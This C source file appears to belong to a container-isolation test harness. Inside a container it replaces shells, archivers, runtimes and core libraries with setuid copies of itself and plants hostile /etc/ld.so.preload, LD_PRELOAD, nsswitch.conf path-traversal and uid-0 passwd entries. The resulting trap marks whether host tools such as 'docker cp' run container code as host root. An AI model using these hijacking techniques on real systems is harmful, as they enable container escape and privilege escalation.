/* SPDX-License-Identifier: Apache-2.0 */
/*
 * replace - this program in place of those that a careless host would run
 *
 * `docker cp` has executed the container's tar, loaded its NSS libraries and run
 * its decompressor, as the host's root.  Each file the host might be tempted by
 * becomes this program or names the trap library.  Whoever runs it under another
 * name springs the trap: it leaves a mark at the top of whatever root it runs in,
 * with the id of its user namespace, so that the driver sees whether that was the
 * host.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "hostile.h"

#define TRAP_MARK "cay-trap-sprung"
#define TRAP_LIBRARY "/hostile-trap.so"

int trap_sprung(const char *name)
{
	static const char *const where[] = { "/" TRAP_MARK, "/tmp/" TRAP_MARK };
	char space[64] = "?";
	ssize_t n = readlink("/proc/self/ns/user", space, sizeof(space) - 1);

	if (n > 0)
		space[n] = '\0';
	for (size_t i = 0; i < ARRAY_SIZE(where); i++) {
		int fd = open(where[i], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);

		if (fd >= 0) {
			(void)dprintf(fd, "%s uid %u %s\n", name, getuid(), space);
			(void)close(fd);
		}
	}
	printf("trap: %s uid %u\n", name, getuid());
	return 0;
}

static const char *const programs[] = {
	"/bin/sh",
	"/bin/bash",
	"/bin/tar",
	"/bin/gzip",
	"/bin/gunzip",
	"/usr/bin/xz",
	"/usr/bin/zstd",
	"/usr/bin/unpigz",
	"/usr/bin/id",
	"/usr/bin/getent",
	"/usr/bin/env",
	"/sbin/init",
	"/sbin/ldconfig",
	"/usr/bin/newuidmap",
	"/usr/sbin/iptables",
	"/usr/bin/nft",
	"/usr/bin/crun",
	"/usr/bin/runc",
	"/lib/x86_64-linux-gnu/libc.so.6",
	"/lib/x86_64-linux-gnu/libnss_files.so.2",
	"/lib64/ld-linux-x86-64.so.2",
};

static const struct {
	const char *path, *text;
} files[] = {
	{ "/etc/ld.so.preload", TRAP_LIBRARY "\n" },
	{ "/etc/ld.so.conf", "/\n" },
	{ "/etc/nsswitch.conf",
	  "passwd: ../../../../hostile-trap\ngroup: ../../../../hostile-trap\n" },
	{ "/etc/passwd", "root:x:0:0::/:/bin/sh\nuser:x:1000:1000::/:/bin/sh\n"
			 "same:x:0:0::/:/bin/sh\n1000:x:0:0::/:/bin/sh\n+1000:x:0:0::/:/bin/sh\n" },
	{ "/etc/group", "root:x:0:\nuser:x:1000:\n" },
	{ "/etc/profile", "exec /bin/sh\n" },
	{ "/etc/environment", "LD_PRELOAD=" TRAP_LIBRARY "\n" },
	{ "/etc/resolv.conf", "nameserver 127.0.0.1\n" },
};

static int replace_file(const char *path, const char *text)
{
	int fd, result = 0;

	(void)unlink(path);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return errno;
	if (write(fd, text, strlen(text)) < 0)
		result = errno;
	(void)close(fd);
	return result;
}

int mode_replace(int, char **)
{
	unsigned n = 0;

	for (size_t i = 0; i < ARRAY_SIZE(programs); i++) {
		int result = file_copy_self(programs[i], 06755);

		n += result == 0;
		fact("%s: %s", programs[i], result_text(result));
	}
	for (size_t i = 0; i < ARRAY_SIZE(files); i++) {
		int result = replace_file(files[i].path, files[i].text);

		n += result == 0;
		fact("%s: %s", files[i].path, result_text(result));
	}
	/* it is the sandbox's own right; what follows from it is for the driver to see */
	printf("replace: %u replaced\n", n);
	return n > 0 ? 0 : 1;
}
